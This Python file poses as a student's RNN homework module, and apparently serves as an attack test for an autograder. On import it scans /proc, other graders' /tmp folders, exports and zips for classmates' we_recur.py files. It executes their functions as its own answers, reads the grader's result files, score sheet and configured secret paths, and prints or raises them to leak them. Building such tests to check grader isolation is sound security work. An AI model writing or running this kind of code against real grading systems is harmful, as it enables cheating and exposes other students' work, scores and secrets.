"""Attack: copy a classmate's answers, and read what the batch and the grader's user keep.

In a batch, the export (a folder or zip) and ``--out`` appear in the grader's command
line (/proc/PID/cmdline). It collects every ``we_recur.py`` it can reach (the export,
the zip, other graders' /tmp/autograder-* scratch folders, the siblings of its own and
every process's working folder's ancestors), keeps only plain-arithmetic functions (an
AST allow-list, so another attack's code never runs) and answers each part with the
first that works. It prints --out's results/*.json and scores.csv and agconfig's
``secret_paths``; (f) raises them unless (f) was stolen. Its own answers are all wrong.
"""

import ast
import builtins
import glob
import json
import os
import time
import zipfile

import numpy as np

HERE = os.path.dirname(os.path.abspath(__file__))
OWN = os.path.realpath(os.path.abspath(__file__))
try:
    with open(os.path.join(HERE, "agconfig.json")) as _stream:
        CONFIG = json.load(_stream)
except (OSError, ValueError):
    CONFIG = {}
PARTS = ("rnn_a_shapes", "rnn_a_dloss_dx", "rnn_b_shapes", "rnn_b_f2", "rnn_b_next_input", "rnn_b_dloss_dx_depends_on")
SAFE_CALLS = {"dict", "tuple", "list", "int", "float", "len", "range", "max", "min", "sum", "abs", "zip", "bool",
              "enumerate", "sorted", "isinstance", "round"}
SAFE_METHODS = {"reshape", "copy", "astype", "dot", "sum", "max", "min", "exp", "flatten", "ravel", "transpose",
                "item", "tolist", "get", "keys", "values", "items"}
SAFE_BUILTINS = {name: getattr(builtins, name) for name in SAFE_CALLS | {"True", "False", "None", "ValueError"}}
DEADLINE = time.monotonic() + 8.0


def _read(path, limit=1 << 20):
    try:
        with open(path, "rb") as stream:
            return stream.read(limit).decode("utf-8", "replace")
    except OSError:
        return ""


def places():
    """(exports, outs, folders to search around)."""
    exports, outs, around = [], [], [HERE, os.getcwd()]
    for entry in [e for e in os.listdir("/proc") if e.isdigit()]:
        cwd = os.path.realpath(f"/proc/{entry}/cwd")
        args = [a for a in _read(f"/proc/{entry}/cmdline").split("\0") if a]
        around.append(cwd)
        resolve = lambda p: p if os.path.isabs(p) or not cwd else os.path.join(cwd, p)  # noqa: E731
        around += [resolve(a) for a in args if "/" in a]
        if not any("autograder" in a for a in args):  # exports and --out: the grader's command lines
            continue
        for index, arg in enumerate(args[:-1]):
            if arg == "batch":
                exports.append(resolve(args[index + 1]))
            if arg in ("--out", "--json", "--root"):
                outs.append(resolve(args[index + 1]))
    return exports, outs, around


def module_files(exports, around):
    """Paths (or zip members) of we_recur.py files, nearest first."""
    found = []
    for export in exports:
        found += sorted(glob.glob(os.path.join(export, "**", "we_recur.py"), recursive=True))[:500]
        if os.path.isfile(export) and zipfile.is_zipfile(export):
            with zipfile.ZipFile(export) as archive:
                found += [(export, n) for n in archive.namelist() if n.endswith("we_recur.py")][:500]
    found += glob.glob("/tmp/autograder-*/submission/**/we_recur.py", recursive=True)
    ancestors = []  # up to four levels up from each place, then one to three levels down
    for base in around:
        ancestors += [os.path.abspath(os.path.join(base or "/", *[".."] * up)) for up in range(1, 5)]
    ancestors = [folder for folder in ancestors if folder != "/"]
    for depth in range(1, 4):
        for folder in dict.fromkeys(ancestors):
            if time.monotonic() < DEADLINE:
                found += sorted(glob.glob(os.path.join(folder, *["*"] * depth, "we_recur.py")))
    return list(dict.fromkeys(found))


def plain(function):
    """Whether ``function`` is plain arithmetic: no imports, no "_" names, only safe calls."""
    for node in ast.walk(function):
        if isinstance(node, (ast.Import, ast.ImportFrom, ast.Global, ast.Nonlocal, ast.While, ast.AsyncFunctionDef)):
            return False
        if isinstance(node, ast.Attribute) and node.attr[0] == "_" or isinstance(node, ast.Name) and node.id[0] == "_":
            return False
        if isinstance(node, ast.Call):
            root = node.func
            while isinstance(root, ast.Attribute):
                root = root.value
            named = isinstance(node.func, ast.Name) and node.func.id in SAFE_CALLS
            method = isinstance(node.func, ast.Attribute) and node.func.attr in SAFE_METHODS
            if not (named or method or isinstance(root, ast.Name) and root.id in ("np", "numpy")):
                return False
    return True


def steal(source):
    """The six functions of ``source`` that are plain arithmetic, defined without its top level."""
    tree = ast.parse(source)
    keep = [n for n in tree.body if isinstance(n, ast.FunctionDef) and n.name in PARTS and plain(n)]
    namespace = {"np": np, "numpy": np, "__builtins__": SAFE_BUILTINS}
    exec(compile(ast.Module(body=keep, type_ignores=[]), "<classmate>", "exec"), namespace)  # noqa: S102
    return {name: namespace[name] for name in PARTS if name in namespace}


def works(name, function):
    z = np.array([[1.0], [2.0], [3.0]])
    try:
        if name == "rnn_b_f2":
            return abs(float(np.sum(function(z))) - 1) < 1e-6
        if name == "rnn_a_dloss_dx":
            return function(np.eye(2), np.eye(2), np.eye(2), z[:2], z[:2]).shape == (2, 1)
        if name == "rnn_b_next_input":
            return function(z).shape == (3, 1)
        return bool(function())
    except Exception:  # noqa: BLE001
        return False


def gather():
    exports, outs, around = places()
    printed = []
    for out in outs:
        for path in sorted(glob.glob(os.path.join(out, "results", "*.json")))[:200] + [os.path.join(out, "scores.csv")]:
            printed.append(f"{path}: {_read(path, 20000)[:300]}")
    for path in CONFIG.get("secret_paths") or []:
        printed.append(f"{path}: {_read(path, 4000)}")
    answers = {}
    files = module_files(exports, around)
    for found in files:
        if time.monotonic() > DEADLINE + 4 or len(answers) == len(PARTS):
            break
        try:
            if isinstance(found, tuple):
                with zipfile.ZipFile(found[0]) as archive:
                    source = archive.read(found[1]).decode("utf-8", "replace")
            else:
                if os.path.realpath(found) == OWN:
                    continue
                source = _read(found, 200_000)
            for name, function in steal(source).items():
                if name not in answers and works(name, function):
                    answers[name] = function
        except Exception:  # noqa: BLE001  a syntax error, an unreadable file
            continue
    return answers, printed, len(files)


try:
    STOLEN, SECRETS, SEEN = gather()
except Exception as _error:  # noqa: BLE001
    STOLEN, SECRETS, SEEN = {}, [f"gather failed: {_error!r}"], 0
print(f"cross_student_read: {SEEN} modules seen, stole {sorted(STOLEN)}")
print("cross_student_read: " + " | ".join(SECRETS)[:6000])

WRONG = {  # its own answers: every one wrong
    "rnn_a_shapes": lambda s_dim=2, x_dim=2, p_dim=2: {"W_ss": (1, 1), "W_sx": (1, 1), "W_o": (1, 1)},
    "rnn_a_dloss_dx": lambda W_ss, W_sx, W_o, x_t, dloss_dz2: np.zeros_like(x_t),
    "rnn_b_shapes": lambda s_dim=2, x_dim=2, p_dim=2: {"W_ssx": (1, 1), "W_ox": (1, 1)},
    "rnn_b_f2": lambda z: z,
    "rnn_b_next_input": lambda p_t: np.zeros_like(p_t),
    "rnn_b_dloss_dx_depends_on": lambda: {"W_ox": False, "all_W_ox": False, "W_ssx": False, "all_W_ssx": True},
}


def answer(name, *args):  # a classmate's function when one was stolen, else its own wrong answer
    return STOLEN.get(name, WRONG[name])(*args)


def rnn_a_shapes(s_dim=2, x_dim=2, p_dim=2):
    return answer("rnn_a_shapes", s_dim, x_dim, p_dim)


def rnn_a_dloss_dx(W_ss, W_sx, W_o, x_t, dloss_dz2):
    return answer("rnn_a_dloss_dx", W_ss, W_sx, W_o, x_t, dloss_dz2)


def rnn_b_shapes(s_dim=2, x_dim=2, p_dim=2):
    return answer("rnn_b_shapes", s_dim, x_dim, p_dim)


def rnn_b_f2(z):
    return answer("rnn_b_f2", z)


def rnn_b_next_input(p_t):
    return answer("rnn_b_next_input", p_t)


def rnn_b_dloss_dx_depends_on():
    if "rnn_b_dloss_dx_depends_on" not in STOLEN and SECRETS:
        raise RuntimeError("LEAK " + " | ".join(SECRETS)[:3000])
    return answer("rnn_b_dloss_dx_depends_on")
